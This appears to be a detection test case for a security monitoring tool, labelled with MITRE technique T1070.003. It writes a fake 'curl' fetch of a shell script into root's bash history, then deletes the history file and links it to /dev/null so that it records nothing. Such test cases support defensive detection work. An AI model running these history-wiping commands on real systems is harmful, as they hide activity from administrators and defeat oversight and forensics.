# id: E09
# title: The shell's history is led to nowhere
# expect: alert
# severity: medium
# kinds: file
# attck: T1070.003
# image: tools
# launch: app

echo 'curl -s http://http:8000/a.sh' >/root/.bash_history
rm -f /root/.bash_history
ln -sf /dev/null /root/.bash_history
